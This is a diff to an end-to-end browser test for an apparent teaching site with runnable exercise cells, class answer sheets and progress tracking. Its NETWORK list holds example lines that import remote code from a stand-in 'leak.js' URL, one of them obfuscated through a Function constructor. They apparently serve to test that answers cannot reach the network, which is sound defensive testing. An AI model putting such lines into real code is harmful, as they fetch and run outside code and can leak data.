@@ -28,7 +28,7 @@ const NETWORK = [
   'import("https://example.org/leak.js").catch(() => 0)',
   '(() => {}).constructor("import(\'https://example.org/leak.js\').catch(() => 0)")()',
 ]
-  .map((line) => `${line.replaceAll('"', '\\"')}\\n`)
+  .map((line) => `${line.replaceAll('"', '\\"')};\\n`)
   .join('');
 
 it('an answer is judged on a sheet, kept, handed in, and the class checked again', async () => {
@@ -65,6 +65,20 @@ it('an answer is judged on a sheet, kept, handed in, and the class checked again
   await expect.poll(() => verdict.textContent()).toMatch(/it passed\. Press Run/);
   expect(await cell.locator('pre').first().textContent()).toContain('flatMap');
 
+  // In its chapter the same answer is shown, without running, and marked in the contents.
+  await page.goto(`${server.url}ccff/`);
+  const inChapter = page.locator('live-cell[data-exercise="upsample2"]');
+  await page.locator('#contents summary').click();
+  await expect
+    .poll(() => page.locator('#contents .progress').allTextContents())
+    .toEqual(['1 of 2 solved']);
+  await page.keyboard.press('Escape');
+  await inChapter.scrollIntoViewIfNeeded();
+  await expect
+    .poll(() => inChapter.locator('.cm-content').innerText())
+    .toContain('flatMap');
+  expect(await inChapter.getAttribute('data-verdict')).toBe('untried');
+
   await page.goto(`${server.url}teach/`);
   expect(await violations(page)).toEqual([]);
   await page.getByRole('link', { name: 'Answers of a class' }).click();
@@ -100,7 +114,7 @@ it('an answer is judged on a sheet, kept, handed in, and the class checked again
   // Its file says right, and the text does not even run.
   expect(await page.locator('.classTable .open').count()).toBe(1);
   expect(await page.locator('.classTable .denied').count()).toBe(0);
-  await page.locator('.classTable .claimed summary').first().click();
+  await page.locator('.classTable .claimed button').first().click();
   expect(await page.locator('.classTable .more').innerText()).toMatch(/The check:/);
   expect(await violations(page)).toEqual([]);
 
